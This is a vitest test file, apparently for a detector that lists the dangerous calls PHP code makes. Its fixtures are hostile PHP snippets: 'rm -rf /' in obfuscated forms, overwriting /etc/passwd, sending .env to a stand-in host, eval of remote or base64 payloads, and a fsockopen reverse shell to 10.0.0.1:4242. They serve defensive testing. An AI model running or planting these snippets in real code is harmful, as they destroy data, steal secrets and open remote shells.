import { describe, expect, it } from "vitest";
import { callsOf, read } from "./reading.ts";

type Case = readonly [code: string, calls: readonly string[]];

const STARTS_PROCESSES_AND_DELETES: readonly Case[] = [
  ['system("rm -rf /");', ["shell rm -rf /"]],
  ["shell_exec('rm -rf /');", ["shell rm -rf /"]],
  ["`rm -rf /`;", ["shell rm -rf /"]],
  ['exec("rm -rf " . getenv("HOME"));', ["shell rm -rf /home/me"]],
  ['passthru("rm -rf $_SERVER[HOME]");', ["shell rm -rf /home/me"]],
  ["proc_open(['rm', '-rf', '/'], [], $p);", ["spawn rm -rf /"]],
  ["$f = 'sys' . 'tem'; $f('rm -rf /');", ["shell rm -rf /"]],
  ["call_user_func('system', 'rm -rf /');", ["shell rm -rf /"]],
  ["\\system('rm -rf /');", ["shell rm -rf /"]],
  ["SYSTEM('rm -rf /');", ["shell rm -rf /"]],
  ["$cmd = sprintf('rm -rf %s', '/'); system($cmd);", ["shell rm -rf /"]],
  ["<?php echo 1; ?> system('rm -rf /') <?php system('ls');", ["shell ls"]],
  ["if ($a) system('ls'); else system('id');", ["shell ls", "shell id"]],
  ["class A { function go($p) { system(\"rm -rf $p\"); } } (new A)->go('/');", ["shell rm -rf /"]],
  ["$r = fn($p) => unlink($p); $r('/x');", ["delete /x"]],
  ["array_map('unlink', glob('*.log'));", ["delete *.log"]],
  ['foreach (glob("/tmp/x/*") as $f) { unlink($f); }', ["delete /tmp/x/*"]],
  [
    "function rr($d) { foreach (scandir($d) as $f) { unlink(\"$d/$f\"); } rmdir($d); } rr('/etc');",
    ["delete /etc/*", "delete /etc"],
  ],
  ["@unlink('x');", ["delete x"]],
  ["chdir('/'); unlink('x'); rename('a', 'b');", ["directory /", "delete /x", "move /a -> /b"]],
  ["system('rm -rf ' . escapeshellarg('/'));", ["shell rm -rf '/'"]],
  ["$x = ['a' => '/']; system(\"rm -rf {$x['a']}\");", ["shell rm -rf /"]],
  ["foreach ($a as $k => $v) { unlink($v); }", ["delete ?"]],
  ["foreach (['/etc'] as $v) unlink($v);", ["delete /etc"]],
  ["function f($a = 1, $b) { unlink($a); } f('/x', 2);", ["delete /x"]],
  ["namespace A; unlink('/x');", ["delete /x"]],
  ["namespace A { unlink('/x'); }", ["delete /x"]],
  ["class A { function g() { unlink('/x'); } }", ["delete /x"]],
  ["switch (1) { case 1: unlink('/x'); }", ["delete /x"]],
  ["try { unlink('/x'); } catch (E $e) { unlink('/y'); }", ["delete /x", "delete /y"]],
  ["declare(strict_types=1); unlink('/x');", ["delete /x"]],
  ["if (1): unlink('/x'); endif;", ["delete /x"]],
];

const READS_WRITES_AND_RUNS_WHAT_IS_NOT_ITS_OWN: readonly Case[] = [
  ["file_put_contents('/etc/passwd', 'x');", ["write /etc/passwd = x"]],
  ["echo file_get_contents('.env');", ["read .env"]],
  [
    "file_get_contents('http://x/?' . file_get_contents('.env'));",
    ["read .env", "network http://x/??[file .env] <- http://x/??[file .env]"],
  ],
  ["eval(file_get_contents('http://x'));", ["network http://x", "evaluate php: ?[network]"]],
  [
    "eval(base64_decode('c3lzdGVtKCJybSAtcmYgLyIpOw=='));",
    ["shell rm -rf /", 'evaluate php: system("rm -rf /");[decoded]'],
  ],
  ["eval(gzinflate(base64_decode('xxxx')));", ["evaluate php: ?[decoded]"]],
  ["include 'http://x/y.php';", ["network http://x/y.php", "evaluate php: ?[network]"]],
  [
    "$s = fsockopen('10.0.0.1', 4242); exec('/bin/sh -i <&3 >&3 2>&3');",
    ["network 10.0.0.1:4242", "spawn sh -c /bin/sh -i <&3 >&3 2>&3 < ?[network]"],
  ],
];

const HARMLESS: readonly string[] = [
  "echo \"system('rm -rf /')\";",
  "// system('rm -rf /')\necho 1;",
  "# unlink('a')\necho 1;",
  "/* system('rm -rf /') */ $x = 'rm -rf /';",
  '$x = <<<EOT\nsystem("rm -rf /");\nEOT;\necho $x;',
  "print 'unlink(\"a\")';",
  "$a = ['system' => 'rm -rf /'];",
  "echo json_encode(['cmd' => 'rm -rf /']);",
  "error_log('rm -rf /');",
  "system;",
  "function system_name() { return 'x'; } echo system_name();",
  "$this->assertSame('deny', judge('rm -rf /'));",
  "echo strlen('exec(\"x\")');",
  "<html>system('rm -rf /')</html>",
  "?>\nsystem('rm -rf /')",
];

describe("PHP code", () => {
  describe("starts processes and deletes", () => {
    it.each(STARTS_PROCESSES_AND_DELETES)("%j", (code, calls) => {
      expect(callsOf("php", code)).toEqual(calls);
    });
  });

  describe("reads, writes and runs what is not its own", () => {
    it.each(READS_WRITES_AND_RUNS_WHAT_IS_NOT_ITS_OWN)("%j", (code, calls) => {
      expect(callsOf("php", code)).toEqual(calls);
    });
  });

  describe("prints and stores dangerous words, which is nothing", () => {
    it.each(HARMLESS)("%j", code => {
      expect(callsOf("php", code)).toEqual([]);
      expect(read("php", code).isComplete).toBe(true);
    });
  });
});
